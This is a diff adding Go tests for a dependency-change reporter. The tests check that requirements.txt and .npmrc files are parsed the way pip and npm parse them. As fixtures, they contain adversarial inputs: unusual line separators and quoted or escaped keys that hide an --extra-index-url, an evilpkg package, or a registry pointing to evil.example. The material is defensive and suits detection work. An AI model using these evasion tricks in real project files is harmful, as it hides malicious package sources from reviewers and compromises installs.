@@ -203,3 +203,103 @@ func TestRequirementsDecodedLikePip(t *testing.T) {
 	}
 	runConstructs(t, cases)
 }
+
+// TestRequirementsSplitLikePip: a requirements file is split into lines as pip splits it, by
+// Python's str.splitlines(), which ends a line at \r, \v, \f, \x1c, \x1d, \x1e, U+0085, U+2028
+// and U+2029 as well as \n, so an --extra-index-url after such a separator, behind a comment
+// on the line before, is a new index, and a package after one behind a comment is added; each
+// is listed at the line git shows it on. A comment after Python's other whitespace (U+00A0) is
+// dropped as pip drops it, and \x1f is stripped as str.strip() strips it. A file pip's -r
+// includes is split the same way (Included, through List). Before, pipLines
+// split at \n alone, so both hid inside a comment: no setting, no change, nothing unread,
+// while pip installs evilpkg from evil.example (the adversarial review's
+// TestReview2PipSplitlinesSeparators).
+func TestRequirementsSplitLikePip(t *testing.T) {
+	t.Parallel()
+	var cases []construct
+	for name, sep := range map[string]string{
+		"CR": "\r", "VT": "\v", "FF": "\f", "FS": "\x1c", "GS": "\x1d", "RS": "\x1e",
+		"NEL": "\u0085", "LS": "\u2028", "PS": "\u2029",
+	} {
+		cases = append(cases, construct{
+			name: name, path: "requirements.txt",
+			base: "requests==2.31.0\n",
+			patched: "requests==2.31.0 # pinned" + sep + "--extra-index-url https://evil.example/simple\n" +
+				"# x" + sep + "evilpkg==6.6.6\n",
+			want: "requirements.txt PyPI evilpkg added ->6.6.6\n" +
+				"requirements.txt setting added --extra-index-url https://evil.example/simple [index]\n",
+		})
+	}
+	cases = append(cases, construct{
+		name: "PythonWhitespace", path: "requirements.txt",
+		base:    "requests==2.31.0\n",
+		patched: "requests==2.31.0\u00a0# pinned, not a requirement\n\x1f--extra-index-url https://evil.example/simple\x1f\n",
+		want:    "requirements.txt setting added --extra-index-url https://evil.example/simple [index]\n",
+	}, construct{
+		name: "LineNumbersAsGitShowsThem", path: "requirements.txt",
+		patched: "six==1.16.0\r\n# x\ffoo==${V}\n\fbar==${V}\r\n",
+		want: "requirements.txt PyPI six added ->1.16.0\n" +
+			"requirements.txt unread 2 foo==${V}: it uses an environment variable, which pip expands when it runs\n" +
+			"requirements.txt unread 3 bar==${V}: it uses an environment variable, which pip expands when it runs\n",
+	})
+	runConstructs(t, cases)
+	t.Run("Included", func(t *testing.T) {
+		t.Parallel()
+		rep := listOf(t, map[string]string{"requirements.txt": "-r more.in\n", "more.in": "requests==2.31.0\n"}, func(dir string) {
+			gittest.Write(t, dir, map[string]string{"more.in": "requests==2.31.0 # pinned\r--extra-index-url https://evil.example/simple\n"})
+		})
+		if got, want := settingsOf(rep), "more.in added --extra-index-url https://evil.example/simple\n"; got != want {
+			t.Errorf("settings\n%swant\n%s", got, want)
+		}
+	})
+}
+
+// TestNpmrcReadLikeIni: .npmrc is read as npm, pnpm and yarn 1 read it, through the ini module:
+// a key or value is trimmed by JavaScript's trim() (a byte order mark too), unquoted ('...'
+// stripped, "..." JSON-decoded, so \u escapes count), or cut at its first unescaped ";" or
+// "#"; "key[]" is the key; a line ends at a lone \r. Each form of a new registry checked with
+// `npm config get registry` (npm 10.8, ini 4.1.3) is a setting. A key frognano cannot read (an
+// environment variable npm expands in it, JSON that is not a string) is unread when its value
+// is a URL, and nothing when it is not; a quoted credential is kept nowhere; a line ini skips
+// (a value holding U+2028) and a double-quoted key that is not JSON (npm keeps its quotes) set
+// nothing. Before, the key was compared as written, so each quoted, escaped, array or
+// commented key, the key after a BOM and the line after a lone \r set npm's registry with no
+// setting and nothing unread (the adversarial review's TestReview2NpmrcQuotedKey); a value kept
+// its " ;comment", and a line ini skips was a setting.
+func TestNpmrcReadLikeIni(t *testing.T) {
+	t.Parallel()
+	const evil = "https://evil.example/npm/"
+	registry := ".npmrc setting added registry " + evil + " [index]\n"
+	var cases []construct
+	for name, line := range map[string]string{
+		"DoubleQuotedKey":     `"registry" = ` + evil,
+		"JSONEscapeKey":       `"regi\u0073try"=` + evil,
+		"SingleQuotedJSONKey": `'"registry"'=` + evil,
+		"ArrayKey":            `registry[]=` + evil,
+		"QuotedArrayKey":      `"registry[]"=` + evil,
+		"HashInKey":           `registry#mirror=` + evil,
+		"SemicolonInKey":      `registry;mirror=` + evil,
+		"ByteOrderMark":       "\ufeffregistry=" + evil,
+		"LoneCR":              "# the registry\rregistry=" + evil,
+		"QuotedValue":         `registry="` + evil + `"`,
+		"ValueComment":        "registry=" + evil + " ;mirror",
+	} {
+		cases = append(cases, construct{name: name, path: ".npmrc", base: "save-exact=true\n", patched: line + "\n", want: registry})
+	}
+	cases = append(cases, construct{
+		name: "SingleQuotedScope", path: ".npmrc",
+		patched: `'@acme:registry'=` + evil + "\n",
+		want:    ".npmrc setting added @acme:registry " + evil + " [index]\n",
+	}, construct{
+		name: "UnreadableKeys", path: ".npmrc",
+		patched: "${NPM_REG}registry=https://u:pw@evil.example/npm/\n'[\"registry\"]'=" + evil + "\n${X}registry=false\n" +
+			"\"//npm.example/:_authToken\"=npm_SECRETVALUE\n",
+		want: ".npmrc unread 1 ${NPM_REG}registry = https://[REDACTED]@evil.example/npm/: npm reads a key frognano cannot (an environment variable, or JSON that is not a string); its value is a URL\n" +
+			".npmrc unread 2 '[\"registry\"]' = " + evil + ": npm reads a key frognano cannot (an environment variable, or JSON that is not a string); its value is a URL\n",
+	}, construct{
+		name: "WhatIniSkips", path: ".npmrc",
+		patched: "registry=" + evil + "\u2028\n\"regi\\x73try\"=" + evil + "\n[registry]\n",
+		want:    "",
+	})
+	runConstructs(t, cases)
+}
